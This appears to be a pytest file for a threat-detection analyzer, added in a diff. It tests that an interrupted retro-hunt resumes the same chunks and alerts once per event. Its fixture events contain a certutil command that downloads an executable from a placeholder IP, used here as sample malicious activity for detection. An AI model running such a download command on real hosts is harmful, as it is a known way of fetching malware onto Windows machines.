@@ -0,0 +1,43 @@
+"""An interrupted retro-hunt resumes the same chunks, even after new events arrive."""
+import argparse
+import multiprocessing
+
+from conftest import add_process
+
+import analyzer
+from rule_engine import RuleSet
+
+CERTUTIL = r"C:\Windows\System32\certutil.exe"
+
+
+def download(db, pid):
+    add_process(db, f"WS-{pid:04d}", pid, 1, CERTUTIL, f"certutil -urlcache -split -f http://203.0.113.5/{pid}.exe a.exe")
+
+
+def test_resume_after_new_events_keeps_the_first_range(memory_db, make_analyzer, monkeypatch, tmp_path):
+    for pid in range(300, 306):
+        download(memory_db, pid)
+    args = argparse.Namespace(from_id=None, to_id=None, since=None, until=None, retro_workers=1)
+    rules = RuleSet.from_rows(memory_db.rules)
+    monkeypatch.setattr(analyzer, "RETRO_CHUNKS_PER_WORKER", 3)
+    monkeypatch.setattr(analyzer, "ALERT_SPILL_PATH", str(tmp_path / "alert_spill.json"))
+    engine = make_analyzer(memory_db)
+    engine.origin, engine.rules = "retro", rules
+    monkeypatch.setattr(analyzer, "_retro", (engine, multiprocessing.Value("q", 0)))
+
+    plan = analyzer.plan_retro_hunt(memory_db.connect(), args, rules)
+    assert plan[1:] == (1, 6, 3)
+    tasks = analyzer.retro_tasks(*plan)
+    analyzer._retro_chunk(tasks[0])  # interrupted after the first chunk
+    assert len(memory_db.alerts) == 2
+
+    for pid in range(306, 310):  # the live pipeline keeps inserting
+        download(memory_db, pid)
+    args.retro_workers = 4
+    again = analyzer.plan_retro_hunt(memory_db.connect(), args, rules)
+    assert again == plan  # same hunt id, range and chunks
+    for task in analyzer.retro_tasks(*again):
+        analyzer._retro_chunk(task)
+
+    event_refs = sorted(alert[1] for alert in memory_db.alerts.values())
+    assert event_refs == [1, 2, 3, 4, 5, 6]  # each finding once, nothing past the first run's MAX(event_id)